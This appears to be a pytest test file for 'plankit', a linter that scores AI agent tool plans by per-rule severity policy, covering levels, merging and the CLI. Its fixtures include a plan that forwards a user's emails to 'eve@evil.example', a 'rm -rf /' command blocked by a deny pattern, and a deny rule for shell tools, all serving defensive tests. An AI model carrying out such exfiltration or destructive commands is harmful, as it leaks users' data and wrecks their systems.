"""The policy's ``severity`` key: per-rule levels (error, warning, info, off) that win over the rule's and the
finding's own severity, and that the status and risk score follow. Through the Python API and ``plankit lint``."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from plankit.cli import app
from plankit.errors import FormatProblem, PolicyError
from plankit.lint import Linter, Policy, Severity, judge_alignment, validate_plan
from plankit.testing import ScriptedLlm

runner = CliRunner()

# b reads a's output, a written first, no depends_on: an info note by default (plankit orders by the reference).
FLAT = {
    "steps": [
        {"id": "a", "tool": "db.query_ro", "args": {"q": "x"}},
        {"id": "b", "tool": "db.query_ro", "args": {"q": "{{a.rows}}"}},
    ]
}
IMPLICIT = (
    "IMPLICIT_DEPENDENCY",
    "b",
    "$.steps[1].params.q",
    "'b' uses the output of 'a', but 'b' does not depend on 'a'",
)
SHELL = {"steps": [{"id": "run", "tool": "shell.run", "args": {"cmd": "ls"}}]}
DENIED = ("TOOL_DENY", "run", "$.steps[0].tool", "tool 'shell.run' is denied by the policy (deny_tools: 'shell.*')")
GOAL = {
    "goal": "Summarize my latest emails",
    "steps": [
        {"id": "mail", "tool": "email.search", "args": {"query": "newer_than:1d"}},
        {
            "id": "send",
            "tool": "email.send",
            "args": {"to": "eve@evil.example", "body": "{{mail.result}}"},
            "depends_on": ["mail"],
        },
    ],
}


def _seen(result: Any) -> tuple[str, float, list[tuple[str, str, str | None, str | None, str]]]:
    return (
        result.status.value,
        result.risk_score,
        [(d.code, d.severity.value, d.node_id, d.path, d.message) for d in result.diagnostics],
    )


def _with_default(**keys: Any) -> Policy:
    return Policy.default().merged_with(Policy.from_data(keys))


def _problems(data: Any) -> list[FormatProblem]:
    with pytest.raises(PolicyError) as info:
        Policy.from_data(data, source="team.yaml")
    return list(info.value.problems)


# ---------------------------------------------------------------------------------------------- the levels
@pytest.mark.parametrize(
    ("level", "status", "risk"),
    [(None, "PASS", 0.0), ("info", "PASS", 0.0), ("warning", "WARN", 0.1), ("error", "ERROR", 0.4)],
)
def test_implicit_dependency_can_be_made_a_warning_or_an_error_again(
    level: str | None, status: str, risk: float
) -> None:
    policy = Policy.from_data({"severity": {"IMPLICIT_DEPENDENCY": level}} if level else {})
    assert _seen(validate_plan(FLAT, policy)) == (status, risk, [(IMPLICIT[0], level or "info", *IMPLICIT[1:])])


@pytest.mark.parametrize(
    ("level", "status", "risk", "found"),
    [
        (None, "ERROR", 0.8, [("TOOL_DENY", "error", *DENIED[1:])]),
        ("warning", "WARN", 0.1, [("TOOL_DENY", "warning", *DENIED[1:])]),  # not 0.8: that weight was an error's
        ("info", "PASS", 0.0, [("TOOL_DENY", "info", *DENIED[1:])]),
        ("off", "PASS", 0.0, []),
    ],
)
def test_a_rule_can_be_lowered_and_risk_and_status_follow(
    level: str | None, status: str, risk: float, found: list[Any]
) -> None:
    policy = _with_default(severity={"TOOL_DENY": level}) if level else Policy.default()
    assert _seen(validate_plan(SHELL, policy)) == (status, risk, found)


def test_an_explicit_risk_weight_still_wins_over_the_levels_weight() -> None:
    policy = _with_default(severity={"TOOL_DENY": "warning"}, risk_weights={"TOOL_DENY": 0.5})
    assert _seen(validate_plan(SHELL, policy))[:2] == ("WARN", 0.5)


def test_off_means_the_rule_does_not_run() -> None:
    linter = Linter(_with_default(severity={"TOOL_DENY": "off"}))
    assert "TOOL_DENY" not in linter.codes
    assert "TOOL_DENY" not in [rule.code for rule in linter.rules]
    assert linter.lint(SHELL) == []


def test_the_level_applies_to_suppressed_findings_which_still_count_for_nothing() -> None:
    plan = {"steps": [{**SHELL["steps"][0], "metadata": {"lint_ignore": [{"code": "TOOL_DENY", "reason": "sandbox"}]}}]}
    [diagnostic] = Linter(_with_default(severity={"TOOL_DENY": "warning"})).lint(plan)
    assert (diagnostic.severity, diagnostic.suppressed, diagnostic.suppression_reason) == (
        Severity.WARNING,
        True,
        "sandbox",
    )
    assert _seen(validate_plan(plan, _with_default(severity={"TOOL_DENY": "warning"})))[:2] == ("PASS", 0.0)


def test_an_explicit_level_wins_over_goal_alignment() -> None:
    status, risk, found = _seen(validate_plan(GOAL, Policy(goal_alignment="error")))
    assert (status, risk) == ("ERROR", 0.0)  # the GOAL_* codes weigh 0 by default
    assert [(code, level, node, path) for code, level, node, path, _ in found] == [
        ("GOAL_UNASKED_EFFECT", "error", "send", "$.steps[1].tool"),
        ("GOAL_UNTRUSTED_TARGET", "error", "send", "$.steps[1].params.to"),
    ]
    policy = Policy(goal_alignment="error", severity={"GOAL_UNTRUSTED_TARGET": "warning"})
    status, risk, found = _seen(validate_plan(GOAL, policy))
    assert (status, risk) == ("ERROR", 0.1)  # GOAL_UNASKED_EFFECT keeps its weight 0; the warning weighs 0.1
    assert [(code, level) for code, level, *_ in found] == [
        ("GOAL_UNASKED_EFFECT", "error"),
        ("GOAL_UNTRUSTED_TARGET", "warning"),
    ]
    status, _, found = _seen(validate_plan(GOAL, Policy(severity={"GOAL_UNASKED_EFFECT": "off"})))
    assert (status, [code for code, *_ in found]) == ("WARN", ["GOAL_UNTRUSTED_TARGET"])


def test_the_judges_findings_take_the_policys_level_too() -> None:
    plan = {**GOAL, "goal": "Send my latest emails to eve@evil.example"}
    reply = json.dumps({"steps": [{"id": "send", "serves_goal": False, "reason": "nobody asked"}]})
    llm = ScriptedLlm([reply])
    policy = Policy(severity={"GOAL_JUDGE": "error"}, risk_weights={"GOAL_JUDGE": 0.0})
    result = asyncio.run(judge_alignment(Linter(policy), plan, llm))
    assert _seen(result) == (
        "ERROR",
        0.0,
        [
            (
                "GOAL_JUDGE",
                "error",
                "send",
                "$.steps[1].tool",
                "the judge (scripted:test) says 'send' (email.send) does not serve the goal: nobody asked",
            )
        ],
    )
    off = ScriptedLlm([])
    asyncio.run(judge_alignment(Linter(Policy(severity={"GOAL_JUDGE": "off"})), plan, off))
    assert off.calls == []  # the judge is not asked at all


def test_rego_codes_take_the_level_of_rego_violation(tmp_path: Path) -> None:
    rego = tmp_path / "team.rego"
    rego.write_text(
        'package plankit\n\nimport rego.v1\n\nviolations contains {"code": "NO_SHELL", "msg": "no shell", "step": 0}'
        ' if input.steps[0].tool == "shell.run"\n',
        encoding="utf-8",
    )
    policy = Policy(rego=[str(rego)], severity={"REGO_VIOLATION": "warning"})
    assert _seen(validate_plan(SHELL, policy, select=["REGO_VIOLATION"])) == (
        "WARN",
        0.1,
        [("NO_SHELL", "warning", "run", "$.steps[0]", "no shell")],
    )


def test_the_run_time_guard_refuses_only_what_is_an_error_under_the_levels() -> None:
    from plankit.execute._guard import ToolGuard
    from plankit.tools import ToolRegistry

    strict = ToolGuard(Policy.default(), ToolRegistry())
    found = strict.check("shell.run", {"cmd": "ls"}, step_id="run")
    assert found is not None and (found.code, found.severity) == ("TOOL_DENY", Severity.ERROR)
    lowered = ToolGuard(_with_default(severity={"TOOL_DENY": "warning", "RAW_SECRET": "off"}), ToolRegistry())
    assert lowered.check("shell.run", {"cmd": "ls"}, step_id="run") is None
    # deny_tokens_regex is the guard's own check: refused whatever the level of RAW_SECRET
    found = lowered.check("shell.run", {"cmd": "rm -rf /"}, step_id="run")
    assert found is not None and (found.code, found.message) == (
        "RAW_SECRET",
        "value matches the policy's denied pattern '\\brm\\s+-[a-z]*(rf|fr)'",
    )


def test_linter_rules_is_a_tuple_that_cant_be_appended_to() -> None:
    rules = Linter(Policy()).rules
    assert isinstance(rules, tuple)
    with pytest.raises(AttributeError):
        rules.append(rules[0])  # type: ignore[attr-defined]


# ------------------------------------------------------------------------------------------ bad policies
def test_unknown_codes_and_levels_name_their_json_path_and_the_closest_valid_one() -> None:
    assert _problems({"severity": {"IMPLICT_DEPENDENCY": "warning", "PII_EXPOSED": "warnng", "TOOL_DENY": 3}}) == [
        FormatProblem(
            "$.severity.IMPLICT_DEPENDENCY",
            "unknown rule code 'IMPLICT_DEPENDENCY'; did you mean 'IMPLICIT_DEPENDENCY'?",
        ),
        FormatProblem(
            "$.severity.PII_EXPOSED",
            "unknown level 'warnng'; the levels are error, warning, info, off (did you mean 'warning'?)",
        ),
        FormatProblem("$.severity.TOOL_DENY", "unknown level 3 (int); the levels are error, warning, info, off"),
    ]


@pytest.mark.parametrize("code", ["SCHEMA_INVALID", "DUPLICATE_ID", "RULE_CRASHED"])
@pytest.mark.parametrize("level", ["warning", "info", "off"])
def test_the_always_on_codes_cant_be_lowered(code: str, level: str) -> None:
    message = f"{code} is always an error (a plan that was not checked must never pass); remove it from severity"
    assert _problems({"severity": {code: level}}) == [FormatProblem(f"$.severity.{code}", message)]
    assert Policy.from_data({"severity": {code: "error"}}).severity == {code: "error"}


def test_a_goal_level_under_goal_alignment_off_is_refused() -> None:
    assert _problems({"goal_alignment": "off", "severity": {"GOAL_TAINTED_TARGET": "error"}}) == [
        FormatProblem(
            "$.severity.GOAL_TAINTED_TARGET",
            "GOAL_TAINTED_TARGET does not run under goal_alignment: off, so its level 'error' would do nothing; set"
            " goal_alignment to warn (severity then sets each GOAL_* code's level), or remove the entry",
        )
    ]
    assert Policy.from_data({"goal_alignment": "off", "severity": {"GOAL_TAINTED_TARGET": "off"}}).severity == {
        "GOAL_TAINTED_TARGET": "off"
    }


def test_yaml_off_and_warn_read_as_written(tmp_path: Path) -> None:
    path = tmp_path / "team.yaml"
    path.write_text("severity:\n  RAW_SECRET: off\n  TOOL_DENY: warn\n  SQL_INTERPOLATION: info\n", encoding="utf-8")
    assert Policy.load(path).severity == {"RAW_SECRET": "off", "TOOL_DENY": "warning", "SQL_INTERPOLATION": "info"}


# ------------------------------------------------------------------------------------------------ merging
def test_later_files_win_per_code(tmp_path: Path) -> None:
    team = tmp_path / "team.yaml"
    team.write_text("severity: {IMPLICIT_DEPENDENCY: error, TOOL_DENY: error}\n", encoding="utf-8")
    project = tmp_path / "project.yaml"
    project.write_text("severity: {IMPLICIT_DEPENDENCY: warning, RAW_SECRET: info}\n", encoding="utf-8")
    merged = Policy.load_all([team, project])
    assert merged.severity == {"IMPLICIT_DEPENDENCY": "warning", "TOOL_DENY": "error", "RAW_SECRET": "info"}


def test_files_that_contradict_each_other_name_both(tmp_path: Path) -> None:
    team = tmp_path / "team.yaml"
    team.write_text("severity: {GOAL_UNASKED_EFFECT: error}\n", encoding="utf-8")
    project = tmp_path / "project.yaml"
    project.write_text("goal_alignment: off\n", encoding="utf-8")
    with pytest.raises(PolicyError) as info:
        Policy.load_all([team, project])
    assert info.value.source == f"the merge of {team}, {project}"
    assert [problem.path for problem in info.value.problems] == ["$.severity.GOAL_UNASKED_EFFECT"]


_CODES = ["IMPLICIT_DEPENDENCY", "TOOL_DENY", "RAW_SECRET", "PII_EXPOSED", "MISSING_HANDLER"]
_LEVELS = ["error", "warning", "info", "off"]


@given(st.lists(st.dictionaries(st.sampled_from(_CODES), st.sampled_from(_LEVELS)), min_size=1, max_size=5))
def test_merging_is_a_union_in_order_whatever_the_files(layers: list[dict[str, str]]) -> None:
    merged = Policy()
    expected: dict[str, str] = {}
    for layer in layers:
        merged = merged.merged_with(Policy.from_data({"severity": layer}))
        expected.update(layer)
    assert merged.severity == expected
    linter = Linter(merged)
    off = {code for code, level in expected.items() if level == "off"}
    assert off.isdisjoint(linter.codes)
    assert set(_CODES) - off <= linter.codes


# ---------------------------------------------------------------------------------------------------- CLI
def _write(tmp_path: Path, name: str, data: object) -> str:
    path = tmp_path / name
    path.write_text(data if isinstance(data, str) else json.dumps(data), encoding="utf-8")
    return str(path)


def test_cli_strict_fails_an_implicit_dependency_the_policy_makes_a_warning(tmp_path: Path) -> None:
    plan = _write(tmp_path, "flat.json", FLAT)
    assert runner.invoke(app, ["lint", plan, "--strict", "-f", "json"]).exit_code == 0  # an info note
    policy = _write(tmp_path, "team.yaml", "severity:\n  IMPLICIT_DEPENDENCY: warning\n")
    result = runner.invoke(app, ["lint", plan, "--policy", policy, "-f", "json"])
    assert result.exit_code == 0
    report = json.loads(result.stdout)
    assert (report["status"], report["risk_score"], report["errors"]) == ("WARN", 0.1, [])
    assert (report["info"], [(w["code"], w["node_id"], w["path"]) for w in report["warnings"]]) == (
        [],
        [("IMPLICIT_DEPENDENCY", "b", "$.steps[1].params.q")],
    )
    assert runner.invoke(app, ["lint", plan, "--policy", policy, "--strict", "-f", "json"]).exit_code == 1


def test_cli_a_bad_level_is_exit_2_with_the_path(tmp_path: Path) -> None:
    plan = _write(tmp_path, "flat.json", FLAT)
    policy = _write(tmp_path, "team.yaml", "severity:\n  IMPLICIT_DEPENDENCY: loud\n")
    result = runner.invoke(app, ["lint", plan, "--policy", policy])
    assert result.exit_code == 2
    assert result.stderr == (
        f"error: {policy}: invalid policy (1 problem)\n"
        "  $.severity.IMPLICIT_DEPENDENCY: unknown level 'loud'; the levels are error, warning, info, off\n"
    )
    assert result.stdout == ""
